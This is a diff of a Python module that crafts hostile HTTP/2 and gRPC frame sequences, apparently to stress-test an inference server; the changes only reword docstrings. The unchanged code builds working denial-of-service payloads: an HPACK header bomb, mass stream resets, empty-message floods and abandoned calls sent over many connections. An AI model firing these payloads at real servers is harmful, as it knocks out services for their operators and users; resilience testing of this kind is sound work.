@@ -1,4 +1,4 @@
-"""Hostile HTTP/2 and gRPC: frames that cost more than they carry, on one and 100 connections."""
+"""Hostile HTTP/2 and gRPC: frames that cost the server more than the client."""
 
 from __future__ import annotations
 
@@ -16,7 +16,7 @@ DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, _, WINDOW_UPDATE, CONTIN
 END_STREAM, END_HEADERS = 1, 4
 MANY = 100
 SECONDS = 1.0
-"""How long one call of a case lasts at most."""
+"""Maximum duration of one call of a case."""
 
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
@@ -24,7 +24,7 @@ def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
 
 
 def header(name: str, value: str) -> bytes:
-    """A header for no table, both shorter than 127 bytes."""
+    """Return a header that adds no table entry; name and value shorter than 127 bytes."""
     return b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()
 
 
@@ -47,7 +47,7 @@ def head(target: Target, path: str = INFER, *more: tuple[str, str]) -> bytes:
 
 
 def calls(target: Target, count: int, *more: bytes, path: str = INFER) -> bytes:
-    """Requests that stay open, each with frames of its own: `more`, with stream 0 in them."""
+    """Return requests that stay open, each followed by the frames `more`, in which stream is 0."""
     block = head(target, path)
     return b"".join(
         frame(HEADERS, END_HEADERS, stream, block)
@@ -61,12 +61,12 @@ def message(body: bytes, *, packed: bool = False) -> bytes:
 
 
 def infer() -> bytes:
-    """A ModelInferRequest for the model echo, with one number, as bytes of protobuf."""
+    """Return a ModelInferRequest for the model echo, with one number, as bytes of protobuf."""
     tensor = b"\x0a\x01x\x12\x04FP64\x1a\x01\x01"
     return message(b"\x0a\x04echo\x2a" + bytes((len(tensor),)) + tensor + b"\x3a\x08" + bytes(8))
 
 
-# What is sent
+# The attacks
 
 
 def settings(target: Target) -> bytes:
@@ -99,7 +99,7 @@ def cancelled_calls(target: Target) -> bytes:
 
 
 def own_resets(target: Target) -> bytes:
-    """The server is made to reset streams: its own reset is as dear as the client's."""
+    """Make the server reset streams: its own resets cost as much as the client's."""
     return calls(target, 50_000, frame(WINDOW_UPDATE, 0, 0, bytes(4)))
 
 
@@ -139,7 +139,7 @@ def huffman_headers(target: Target) -> bytes:
 
 
 def header_bomb(target: Target) -> bytes:
-    """An entry of 4000 bytes in the table, named again and again."""
+    """A table entry of 4000 bytes, referenced repeatedly."""
     entry = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000
     block = head(target) + entry + b"\xbe" * 25_000
     return b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) for i in range(50))
@@ -154,7 +154,7 @@ def refused_calls(target: Target) -> bytes:
 
 
 def tiny_messages(target: Target) -> bytes:
-    """A stream of messages that say nothing, three thousand to a frame."""
+    """A stream of empty messages, three thousand to a frame."""
     return calls(target, 10, *[frame(DATA, 0, 0, message(b"") * 3000)] * 20, path=STREAM_INFER)
 
 
@@ -170,12 +170,12 @@ def bombs(target: Target) -> bytes:
 
 
 def abandoned(target: Target) -> bytes:
-    """As many calls as may be open, by a client that then goes away."""
+    """As many calls as may be open, by a client that then disconnects."""
     return calls(target, 4000, frame(DATA, END_STREAM, 0, infer()))
 
 
 def attack(what: Callable[[Target], bytes], connections: int, target: Target) -> None:
-    """Send it on so many connections, and read what comes back, until all is sent or refused."""
+    """Send it on `connections` connections, and read the answers, until all is sent or refused."""
     sent = GREETING + what(target)
     with selectors.DefaultSelector() as selector:
         left = {}
